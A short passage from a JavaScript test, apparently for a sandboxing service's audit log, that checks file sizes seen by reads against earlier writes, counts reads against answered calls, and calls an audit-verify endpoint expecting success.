      assert.equal(e.details.fileSize, size, `read at seq ${e.seq} saw a file of ${e.details.fileSize} bytes; the chain's last write before it left ${size}`);
    }
  }
  assert.ok(reads >= answered + 1, `${reads} reads in the chain, ${answered} answered`);
  const v = await srv.req('GET', `/v1/jailbox/${O.jobId}/audit/verify`, { token: srv.serviceToken });
  assert.equal(v.json.ok, true, v.text);
});
